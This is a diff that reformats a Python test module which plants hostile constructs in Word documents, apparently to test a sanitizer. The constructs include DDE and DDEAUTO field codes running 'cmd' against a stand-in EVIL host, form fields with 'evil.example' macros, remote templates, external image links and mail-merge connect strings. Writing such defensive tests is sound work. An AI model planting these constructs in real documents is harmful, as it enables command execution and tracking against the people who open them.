@@ -34,16 +34,7 @@ BUILDING_BLOCK = "<w:docPart><w:docPartBody><w:p></w:p></w:docPartBody></w:docPa
 _PACKAGE = b' xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
 _TYPES = "[Content_Types].xml"
 WML = "application/vnd.openxmlformats-officedocument.wordprocessingml"
-STORIES = (
-    "document",
-    "header1",
-    "header2",
-    "footer1",
-    "footnotes",
-    "endnotes",
-    "comments",
-    "glossary/document",
-)
+STORIES = ("document", "header1", "header2", "footer1", "footnotes", "endnotes", "comments", "glossary/document")
 """Parts that hold paragraphs."""
 
 
@@ -74,9 +65,7 @@ def mark(kind: str) -> str:
 
 
 def codes(*pieces: str) -> str:
-    return "".join(
-        run(f'<w:instrText xml:space="preserve">{escape(piece)}</w:instrText>') for piece in pieces
-    )
+    return "".join(run(f'<w:instrText xml:space="preserve">{escape(piece)}</w:instrText>') for piece in pieces)
 
 
 def shown(text: str) -> str:
@@ -134,11 +123,7 @@ IN_STORIES = {
     "DATE, simple": Planted(simple_field("DATE"), "DATE"),
     "HYPERLINK": Planted(complex_field(codes(f' HYPERLINK "{EVIL}" \\l "a" ')), "HYPERLINK"),
     "a field in a result": Planted(
-        mark("begin")
-        + codes(" REF a \\h ")
-        + mark("separate")
-        + complex_field(codes(f"DDE cmd {EVIL}"))
-        + mark("end"),
+        mark("begin") + codes(" REF a \\h ") + mark("separate") + complex_field(codes(f"DDE cmd {EVIL}")) + mark("end"),
         "DDE",
     ),
     "a code made by a field": Planted(
@@ -162,8 +147,7 @@ IN_STORIES = {
         "DDEAUTO",
     ),
     "a field in a formula": Planted(
-        f"<m:oMath><m:r>{BEGIN}<w:instrText>DDEAUTO cmd {EVIL}</w:instrText>{END}</m:r></m:oMath>",
-        "DDEAUTO",
+        f"<m:oMath><m:r>{BEGIN}<w:instrText>DDEAUTO cmd {EVIL}</w:instrText>{END}</m:r></m:oMath>", "DDEAUTO"
     ),
     "a deleted code": Planted(
         complex_field(run(f"<w:delInstrText>INCLUDETEXT {EVIL}</w:delInstrText>")), "INCLUDETEXT"
@@ -171,9 +155,7 @@ IN_STORIES = {
     "a code without an end": Planted(mark("begin") + codes(f"DDEAUTO cmd {EVIL}") + shown(KEPT), "DDEAUTO"),
     "a code without a field": Planted(codes(f"DDEAUTO cmd {EVIL}") + shown(KEPT), "DDEAUTO"),
     "a form with a macro": Planted(
-        run(
-            '<w:fldChar w:fldCharType="begin"><w:ffData><w:entryMacro w:val="evil.example"/></w:ffData></w:fldChar>'
-        )
+        run('<w:fldChar w:fldCharType="begin"><w:ffData><w:entryMacro w:val="evil.example"/></w:ffData></w:fldChar>')
         + codes(" FORMTEXT ")
         + mark("separate")
         + shown(KEPT)
@@ -181,9 +163,7 @@ IN_STORIES = {
         "FORMTEXT",
     ),
     "a page number with a macro": Planted(
-        run(
-            '<w:fldChar w:fldCharType="begin"><w:ffData><w:entryMacro w:val="evil.example"/></w:ffData></w:fldChar>'
-        )
+        run('<w:fldChar w:fldCharType="begin"><w:ffData><w:entryMacro w:val="evil.example"/></w:ffData></w:fldChar>')
         + codes(" PAGE ")
         + mark("separate")
         + shown(KEPT)
@@ -193,9 +173,7 @@ IN_STORIES = {
     "a link": Planted(
         f'<w:hyperlink r:id="e1">{shown(KEPT)}</w:hyperlink>', EVIL, (Link("e1", "hyperlink", EVIL, True),)
     ),
-    "a link by its location": Planted(
-        f'<w:hyperlink w:docLocation="{EVIL}">{shown(KEPT)}</w:hyperlink>', EVIL
-    ),
+    "a link by its location": Planted(f'<w:hyperlink w:docLocation="{EVIL}">{shown(KEPT)}</w:hyperlink>', EVIL),
     "an outside picture": Planted(picture('<a:blip r:link="e1"/>'), EVIL, (Link("e1", "image", EVIL, True),)),
     "a picture kept in the file and outside": Planted(
         picture('<a:blip r:embed="e2" r:link="e1"/>'),
@@ -289,15 +267,10 @@ IN_PARTS = {
     "an attached template": (
         "settings",
         Planted(
-            '<w:attachedTemplate r:id="e1"/>',
-            "an attached template",
-            (Link("e1", "attachedTemplate", EVIL, True),),
+            '<w:attachedTemplate r:id="e1"/>', "an attached template", (Link("e1", "attachedTemplate", EVIL, True),)
         ),
     ),
-    "mail merge": (
-        "settings",
-        Planted(f'<w:mailMerge><w:connectString w:val="{EVIL}"/></w:mailMerge>', "mail merge"),
-    ),
+    "mail merge": ("settings", Planted(f'<w:mailMerge><w:connectString w:val="{EVIL}"/></w:mailMerge>', "mail merge")),
     "a picture in the theme": (
         "theme/theme1",
         Planted('<a:blip r:link="e1"/>', "a picture outside", (Link("e1", "image", EVIL, True),)),
@@ -320,10 +293,7 @@ IN_PARTS = {
             {"word/customUI.xml": ("application/xml", EVIL.encode())},
         ),
     ),
-    "a base of addresses": (
-        "../docProps/app",
-        Planted(f"<HyperlinkBase>{EVIL}</HyperlinkBase>", "a base for links"),
-    ),
+    "a base of addresses": ("../docProps/app", Planted(f"<HyperlinkBase>{EVIL}</HyperlinkBase>", "a base for links")),
 }
 """What stands in other parts, or in none: by the part."""
 
@@ -339,20 +309,14 @@ def plant(content: bytes, part: str, planted: Planted) -> bytes:
     own = f"e{len(rels)}"
     added = "".join(
         f'<Relationship Id="{own}{one.id}" Type="{_OFFICE}/{one.type}" '
-        + (
-            f'Target="{one.target}" TargetMode="External"/>'
-            if one.is_outside
-            else f'Target="/word/{one.target}"/>'
-        )
+        + (f'Target="{one.target}" TargetMode="External"/>' if one.is_outside else f'Target="/word/{one.target}"/>')
         for one in planted.links
     )
     if added:
         parts[place] = rels.replace(b"</Relationships>", f"{added}</Relationships>".encode())
     if name:
         parts[name] = _insert(parts[name].decode(), re.sub('"(e[12])"', rf'"{own}\1"', planted.xml)).encode()
-    types = "".join(
-        f'<Override PartName="/{one}" ContentType="{kind}"/>' for one, (kind, _) in planted.parts.items()
-    )
+    types = "".join(f'<Override PartName="/{one}" ContentType="{kind}"/>' for one, (kind, _) in planted.parts.items())
     parts[_TYPES] = parts[_TYPES].replace(b"</Types>", f"{types}</Types>".encode())
     parts |= {one: data for one, (_, data) in planted.parts.items()}
     written = io.BytesIO()
@@ -384,9 +348,7 @@ def letterhead() -> bytes:
     document.add_comment(document.add_paragraph("a letter").runs[0], "a comment", "author")
     written = io.BytesIO()
     document.save(written)
-    content = plant(
-        written.getvalue(), "footer1", Planted(complex_field(codes(" PAGE ", "\\* Arabic "), "1"), "")
-    )
+    content = plant(written.getvalue(), "footer1", Planted(complex_field(codes(" PAGE ", "\\* Arabic "), "1"), ""))
     for kind, name, inner in (
         ("footnotes", "footnotes", '<w:footnote w:id="2"><w:p></w:p></w:footnote>'),
         ("endnotes", "endnotes", '<w:endnote w:id="2"><w:p></w:p></w:endnote>'),
